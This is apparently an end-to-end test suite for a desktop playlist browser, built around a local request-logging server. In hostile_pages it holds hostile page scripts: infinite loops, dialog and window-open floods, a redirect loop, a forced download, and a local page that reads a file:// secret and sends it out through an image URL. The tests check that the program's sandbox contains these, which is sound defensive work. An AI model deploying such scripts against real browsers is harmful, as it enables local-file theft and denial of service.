#!/usr/bin/python3
# The real program, started as a user starts it, against a web server on 127.0.0.1 that writes down
# when each request arrives.  e2e_test.py PROGRAM [TestCase.test ...], under scripts/run-under-x (or
# scripts/run-under-weston for the run under Wayland). bench/soak.py browses the hostile entries
# here, and more, for an hour.
import collections, contextlib, http.server, json, os, pathlib, shutil, signal, socket, subprocess, sys, tempfile
import threading, time, unittest

import psutil

PROGRAM = None  # the executable, from the command line or bench/soak.py
Request = collections.namedtuple("Request", "path target at")


class Server(http.server.ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self, port=0):
        super().__init__(("127.0.0.1", port), Handler)
        self.requests, self.routes = [], {}  # appended to by the handlers' threads: a list's append is atomic
        threading.Thread(target=self.serve_forever, daemon=True).start()

    def handle_error(self, *args): pass  # the browser drops connections whenever it moves on

    def url(self, path): return f"http://127.0.0.1:{self.server_port}{path}"

    def seen(self, *paths): return [r for r in self.requests if not paths or r.path in paths]

    def wait(self, paths, count, timeout):
        until(lambda: len(self.seen(*paths)) >= count, timeout, 0.005)
        return self.seen(*paths)


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *args): pass

    def do_GET(self):
        path = self.path.split("?")[0]
        self.server.requests.append(Request(path, self.path, time.monotonic()))
        # A route is a page (cache control, body), or a function of the request that makes the answer.
        route = self.server.routes.get(path, ("max-age=3600", f"<!DOCTYPE html><title>{path}</title>"
                                              f"<link rel=stylesheet href=/style.css>{path}"))
        status, headers, body = route(self) if callable(route) else (200, {"Cache-Control": route[0]}, route[1])
        self.send_response(status)
        for name, value in {"Content-Type": "text/html; charset=utf-8", **headers, "Content-Length": len(body)}.items():
            self.send_header(name, str(value))
        self.end_headers()
        self.wfile.write(body.encode("latin-1"))  # a byte a character, as Content-Length counted


def read(path): return pathlib.Path(path).read_text(errors="replace")


def write(path, *lines):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    pathlib.Path(path).write_text("\n".join(lines) + "\n", newline="\r\n")  # a playlist's lines end in CR LF
    return path


def until(condition, timeout, step=0.02):
    deadline = time.monotonic() + timeout
    while not (result := condition()) and time.monotonic() < deadline:
        time.sleep(step)
    return result


def ask(question, otherwise):
    # psutil's answer about a process, or `otherwise` when the process has gone meanwhile.
    with contextlib.suppress(psutil.Error):
        return question()
    return otherwise


def descendants(root):
    # The processes below `root` now, as psutil's, which tell a process from a later one with its pid.
    return ask(lambda: {p: command(p) for p in psutil.Process(root).children(recursive=True)}, {})


def command(process): return ask(lambda: " ".join(process.cmdline()), "")


def still_running(processes):
    return [p for p in processes if p.is_running() and command(p)]  # a zombie has no command line


def kill(processes):
    for p in still_running(processes):
        ask(p.kill, None)


def xdotool(*args):
    return subprocess.run(["xdotool", *args], capture_output=True, text=True, timeout=30).stdout


def windows(pid):
    # This xdotool joins --pid and --name with "or": names are matched here.
    found = xdotool("search", "--onlyvisible", "--pid", str(pid)).split()
    return {i: xdotool("getwindowname", i).strip() for i in found}


KEY = ("key", "--clearmodifiers", "--delay", "60")  # xdotool's, for keys whatever modifiers are down


class Program:
    def __init__(self, args, scratch, **environment):
        env = dict(os.environ, XDG_CACHE_HOME=scratch + "/cache", XDG_CONFIG_HOME=scratch + "/config",
                   XDG_DATA_HOME=scratch + "/data", GSETTINGS_BACKEND="memory", **environment)
        self.stderr = open(os.path.join(scratch, "stderr.log"), "w+")
        self.process = subprocess.Popen([PROGRAM, *args], env=env, stdin=subprocess.DEVNULL,
                                        stdout=subprocess.DEVNULL, stderr=self.stderr, start_new_session=True)
        self.pid, self.helpers = self.process.pid, {}

    def main_window(self):
        found = until(lambda: [i for i, name in windows(self.pid).items() if name == "Kestrova Pro Version"], 30, 0.1)
        assert found, "no main window; stderr:\n" + self.errors()
        return found[0]

    def errors(self): return read(self.stderr.name)

    def kill(self):
        if self.process.poll() is None:
            self.helpers.update(descendants(self.pid))
            os.killpg(self.pid, signal.SIGKILL)
        self.process.wait()
        kill(self.helpers)
        self.stderr.close()


def menu(pid, window, key):
    # Opens a menu by its access key and returns once it shows.
    xdotool("windowactivate", "--sync", window)
    before = len(windows(pid))
    xdotool(*KEY, "alt+" + key)
    until(lambda: len(windows(pid)) > before, 5)


def stop_ends_run(program, window, server):
    # File > Stop by its access keys; true when no request comes in the 2.5 s after it.
    menu(program.pid, window, "f")
    xdotool(*KEY, "t")
    time.sleep(3)
    return not [r for r in server.seen() if r.at > time.monotonic() - 2.5]


def refused():
    # A port free a moment ago and closed now: connections are refused.
    with socket.create_server(("127.0.0.1", 0)) as s:
        return f"http://127.0.0.1:{s.getsockname()[1]}/"


def script_page(script):
    return ("max-age=3600", f"<!DOCTYPE html><title>page</title><h1>page</h1><script>{script}</script>")


def hostile_pages(server, scratch):
    # Entries that try to hold, flood or trick the browser: (name, path on `server` and its route) or
    # (name, address); and the name of the file the download offers.
    payload = f"kestrova-payload-{os.getpid()}.bin"
    write(f"{scratch}/secret.txt", "the secret")
    write(f"{scratch}/folder/inner/spy.html", f"<script>fetch('file://{scratch}/secret.txt').then(r => r.text())"
          f".catch(() => '-').then(t => new Image().src = '{server.url('/read')}?got=' + encodeURIComponent(t || '-'))"
          "</script>")
    return [
        ("an endless script", "/endless.html", script_page("for (;;) {}")),
        ("a dialog loop", "/dialogs.html", script_page("for (;;) { alert('a'); confirm('c'); prompt('p', 'x'); }")),
        ("window.open in a loop", "/open.html", script_page("for (var i = 0; i < 2000; ++i) open('/opened-' + i);")),
        ("window.print()", "/print.html", script_page("window.print(); window.print();")),
        ("HTTP authentication", "/auth.html", lambda h: (400 if h.headers["Authorization"] else 401,
                                                        {"WWW-Authenticate": 'Basic realm="k"'}, "who are you?")),
        ("a redirect loop", "/redirect", lambda h: (302, {"Location": f"/redirect?{time.monotonic()}"}, "")),
        ("a download", "/download", lambda h: (200, {"Content-Type": "application/octet-stream", "Content-Disposition":
                                                      f'attachment; filename="{payload}"'}, "\x7f" * 2**20)),
        ("a local page reading another file", f"file://{scratch}/folder/inner/spy.html")], payload


def interleave(server, hostile):
    # Ordinary pages that report that their script ran, each followed by a hostile entry. Returns the
    # entries and the ordinary pages' paths.
    # No Cache fetches the page alone afresh: the reports a page sends must not come from the cache.
    server.routes.update({"/ran": ("no-store", ""), "/read": ("no-store", ""), **dict(h[1:] for h in hostile if h[2:])})
    ordinary = [f"/page-{i}.html" for i in range(len(hostile))]
    server.routes.update({p: script_page(f"new Image().src = '/ran?page={i}';") for i, p in enumerate(ordinary)})
    entries = [e for p, h in zip(ordinary, hostile) for e in (server.url(p), server.url(h[1]) if h[2:] else h[1])]
    return entries, ordinary


def hostile_problems(server, scratch, hostile, ordinary, payload):
    # What the hostile entries got: no credentials sent after a 401, no download retried, the
    # redirect loop followed within bounds, no window opened, nothing read from another file (the
    # page that tries ran), nothing saved. Each hostile entry comes as often as the page before it,
    # or once less.
    seen = server.seen(*ordinary)
    v = {h[0]: [r.path for r in seen].count(p) for h, p in zip(hostile, ordinary)}
    problems = [f"{path} requested {len(server.seen(path))} times, not {low} to {high}" for path, low, high in (
        ("/auth.html", v["HTTP authentication"] - 1, v["HTTP authentication"]),
        ("/download", v["a download"] - 1, v["a download"]),
        ("/redirect", v["a redirect loop"] + 1, 25 * v["a redirect loop"]),
        ("/read", v["a local page reading another file"] - 1, 10**9)) if not low <= len(server.seen(path)) <= high]
    problems += [f"a local page read {r.target}" for r in server.seen("/read") if r.target != "/read?got=-"]
    problems += [f"requested {r.path}" for r in server.seen() if r.path.startswith("/opened-")]
    for folder in (scratch, os.path.expanduser("~/Downloads")):
        problems += [f"the download was saved in {d}" for d, _, files in os.walk(folder) if payload in files]
    return problems


class EndToEnd(unittest.TestCase):
    pages = ["/a.html", "/b.html", "/c.html"]

    def setUp(self):
        self.server, self.scratch, self.program = Server(), tempfile.mkdtemp(prefix="kestrova-e2e-"), None

    def tearDown(self):
        self.program and self.program.kill()
        self.server.shutdown()
        self.server.server_close()
        shutil.rmtree(self.scratch, True)

    def playlist(self, entries, name="list.txt"):
        return "/f=" + write(f"{self.scratch}/{name}", *[self.server.url(e) if e[0] == "/" else e for e in entries])

    def launch(self, *args, **environment):
        self.program and self.program.kill()
        self.program = Program(args, self.scratch, **environment)
        return self.program

    def test_run(self):
        # An unquoted path with blanks reaches the program as separate words; it joins them.
        window = self.launch(*self.playlist(self.pages, "My Lists/a b.txt").split(" "), "/t=1").main_window()
        height = int(xdotool("getwindowgeometry", "--shell", window).split("HEIGHT=")[1].split()[0])

        # No Cache is ticked at start: the second pass reaches the server too, one second a page. The
        # first page's request waits for the web engine to start, and the second for the first, so the
        # first spacing may be as short as that took; a lag of up to 250 ms is caught up in the wait.
        seen = self.server.wait(self.pages, 6, 30)
        self.assertEqual([r.path for r in seen], self.pages * 2, self.program.errors())
        gaps = [b.at - a.at for a, b in zip(seen, seen[1:])]
        self.assertTrue(gaps[0] <= 1.6 and all(0.7 <= g <= 1.6 for g in gaps[1:]), gaps)
        # Only the page is purged: what it loads stays in the cache. (A page replaced before its
        # stylesheet came may have left it unstored, so the first pass may ask more than once.)
        self.assertTrue(self.server.seen("/style.css"))
        self.assertEqual([r for r in self.server.seen("/style.css") if r.at > seen[3].at], [])

        # Unticked, the next visits come from the cache.
        xdotool("mousemove", "--window", window, "656", str(height - 576 + 73), "click", "1")
        clicked = time.monotonic()
        time.sleep(2.6)
        self.assertEqual([r for r in self.server.seen(*self.pages) if r.at > clicked + 0.1], [], "No Cache off")

    def test_closing(self):
        # Closing the window ends the program within a moment, by itself, with status 0, and its helpers
        # with it: in a long wait, and while a page's endless script keeps its web process busy (the
        # program ends that process before each navigation and waits for a fresh one to take the page).
        self.server.routes["/endless.html"] = script_page("for (;;) {}")
        for how, page, interval in (("in a /t=300 wait", "/wait.html", "300"),
                                    ("web process stuck", "/endless.html", "1")):
            window = self.launch(self.playlist([page], f"{interval}.txt"), f"/t={interval}").main_window()
            self.server.wait([page], 2 if interval == "1" else 1, 20)
            xdotool("windowactivate", "--sync", window)
            helpers = self.program.helpers
            helpers.update(descendants(self.program.pid))
            self.assertTrue(helpers, "no web engine processes in sight")
            pressed = time.monotonic()
            xdotool(*KEY, "alt+F4")
            status = self.program.process.wait(10)
            self.assertLess(time.monotonic() - pressed, 0.5, how)
            self.assertEqual(status, 0, how)
            self.assertNotRegex(self.program.errors().lower(), "gtk-critical|gtk-warning|assert", how)
            time.sleep(2)
            self.assertEqual([helpers[p] for p in still_running(helpers)], [], how)

    def test_without_focus(self):
        # Started from a script while the user works in another program (X), or where the compositor
        # gives the focus to nobody (Wayland), the run starts when the window is shown. Each visit
        # appends a line to the visit log: a page, a missing page, a refused port, a host and port
        # with no scheme, and a port that web engines never contact (discard), which is no status.
        x11 = "DISPLAY" in os.environ
        if x11:
            self.addCleanup(subprocess.Popen(["xmessage", "-title", "focus-holder", "another program"]).kill)
            xdotool("search", "--sync", "--onlyvisible", "--name", "^focus-holder$", "windowactivate", "--sync")
        self.server.routes["/gone.html"] = lambda h: (404, {}, "gone")
        host_port = f"localhost:{self.server.server_port}/b.html"
        urls = [self.server.url("/a.html"), self.server.url("/gone.html"), refused(), host_port, "http://127.0.0.1:9/"]
        outcomes = ({"status": 200}, {"status": 404}, {"error": "refused"}, {"status": 200}, {"error": "blocked"})
        log = write(os.path.join(self.scratch, "visit log.jsonl"), "earlier line")
        self.launch(self.playlist(urls), "/t=2", f"/l={log}")
        until(lambda: len(read(log).splitlines()) > len(urls), 40)
        lines = read(log).splitlines()
        self.assertEqual(lines[0], "earlier line", self.program.errors())
        self.assertEqual([r.path for r in self.server.seen("/b.html")], ["/b.html"])
        zone = "\\" + time.strftime("%z")[:3] + ":" + time.strftime("%z")[3:]  # the sign escaped
        for i, (line, outcome) in enumerate(zip(lines[1:len(urls) + 1], outcomes, strict=True)):
            visit = json.loads(line)
            self.assertRegex(visit.pop("time"), r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d" + zone + "$")
            self.assertLess(visit.pop("ms"), 2000, line)
            url = "http://" + urls[i] if urls[i] == host_port else urls[i]
            self.assertEqual(visit, {"pass": 1, "index": i, "url": url, **outcome})
        if x11:
            self.assertEqual(xdotool("getactivewindow", "getwindowname"), "focus-holder\n")

    def test_hostile(self):
        # Two passes at /t=1, No Cache on: every ordinary page comes in its turn whatever the entry
        # before it did, no window but the main one shows, the window still answers (File > Stop
        # from the keyboard ends the run), the web process runs in its sandbox, and the hostile
        # entries got nothing.
        hostile, payload = hostile_pages(self.server, self.scratch)
        entries, ordinary = interleave(self.server, hostile)
        window, intruders = self.launch(self.playlist(entries), "/t=1").main_window(), set()
        until(lambda: intruders.update(n for i, n in windows(self.program.pid).items() if i != window) or
              len(self.server.seen(*ordinary)) >= 2 * len(ordinary), 120, 0.5)
        self.assertTrue(any("bwrap" in c for c in descendants(self.program.pid).values()), "no sandbox")
        self.assertTrue(stop_ends_run(self.program, window, self.server), "requests went on after the stop")
        seen = [r.path for r in self.server.seen(*ordinary)]
        self.assertEqual(seen, (ordinary * 3)[:max(len(seen), 2 * len(ordinary))], self.program.errors())
        self.assertEqual(intruders, set())
        self.assertEqual(hostile_problems(self.server, self.scratch, hostile, ordinary, payload), [])


if __name__ == "__main__":
    PROGRAM = sys.argv[1]
    unittest.main(argv=sys.argv[:1] + sys.argv[2:])
